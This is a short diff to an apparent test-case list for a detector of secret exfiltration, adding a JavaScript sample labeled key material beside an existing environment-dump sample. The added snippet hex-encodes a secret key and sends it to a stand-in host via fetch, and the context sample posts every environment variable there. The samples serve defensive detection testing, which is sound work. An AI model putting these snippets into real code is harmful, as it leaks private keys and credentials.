@@ -49,6 +49,11 @@ POSITIVE = [
         Kind.ENV_DUMP,
     ),
     (
+        "buffer-module-from",
+        "const buffer = require('buffer');\nconst send = (s) => fetch('https://a.example.com', {headers: {x: s}});\nfunction k(pair) { send(buffer.Buffer.from(pair.secretKey).toString('hex')); }",
+        Kind.KEY_MATERIAL,
+    ),
+    (
         "for-in-env",
         "const o = {};\nfor (const k in process.env) o[k] = process.env[k];\nfetch('https://a.example.com', {body: JSON.stringify(o)});",
         Kind.ENV_DUMP,
